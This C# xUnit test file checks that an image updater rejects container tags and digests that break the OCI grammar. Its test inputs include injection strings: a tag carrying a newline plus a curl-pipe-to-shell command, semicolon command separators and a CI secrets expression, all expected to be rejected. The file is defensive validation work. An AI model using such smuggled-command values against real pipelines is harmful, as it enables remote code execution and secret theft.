using System.Linq;
using ImageUpdater.Core.Tags;
using Xunit;

namespace ImageUpdater.Core.Tests.Tags
{
    /// <summary>Item 6: registries' tags and digests follow the OCI grammar, or they are dropped before any strategy.</summary>
    public class OciNameTests
    {
        [Theory]
        [InlineData("1.0.0", true)]
        [InlineData("v1.2.3-rc.1", true)]
        [InlineData("_underscore", true)]
        [InlineData("latest", true)]
        [InlineData("", false)]
        [InlineData(".hidden", false)]
        [InlineData("-dash", false)]
        [InlineData("1.0.0+build", false)]
        [InlineData("zzz\ncurl -s http://x/p | sh", false)]
        [InlineData("a;b", false)]
        [InlineData("${{ secrets.X }}", false)]
        [InlineData("tag with space", false)]
        [InlineData("ünicode", false)]
        public void Tags(string tag, bool valid)
        {
            Assert.Equal(valid, OciName.IsValidTag(tag));
        }

        [Fact]
        public void TagLengthIsCappedAt128()
        {
            Assert.True(OciName.IsValidTag(new string('a', 128)));
            Assert.False(OciName.IsValidTag(new string('a', 129)));
        }

        [Theory]
        [InlineData("sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", true)]
        [InlineData("sha512:00ff", true)]
        [InlineData("multihash+base58:00", true)]
        [InlineData("sha256:ABCDEF", false)]
        [InlineData("sha256:", false)]
        [InlineData(":00", false)]
        [InlineData("sha256:00\n", false)]
        [InlineData("sha256:00 x", false)]
        [InlineData("SHA256:00", false)]
        [InlineData("sha256+:00", false)]
        public void Digests(string digest, bool valid)
        {
            Assert.Equal(valid, OciName.IsValidDigest(digest));
        }

        [Fact]
        public void InvalidTagsAndDigestsNeverReachAStrategyAndAreCountedInTheReason()
        {
            var tags = new[] { "1.0.0", "zzz\ncurl -s http://127.0.0.1:1/p | sh", "9.9.9;rm", "1.1.0" }.Select(t => new ImageTag(t)).ToList();
            tags.Add(new ImageTag("2.0.0") { Digest = "sha256:00\nx" });
            var result = TagSelector.Select(tags, new TagSelectionOptions { Strategy = UpdateStrategy.Alphabetical });
            Assert.Equal("1.1.0", result.Winner!.Tag);
            Assert.DoesNotContain(result.Ordered, t => t.Tag.Contains("\n") || t.Tag.Contains(";") || t.Tag == "2.0.0");
            Assert.Contains("3 invalid tags ignored", result.Reason);
            Assert.Contains("1 invalid tag ignored", TagSelector.Select(new[] { new ImageTag("a b"), new ImageTag("1.0.0") }, new TagSelectionOptions()).Reason);
        }
    }
}
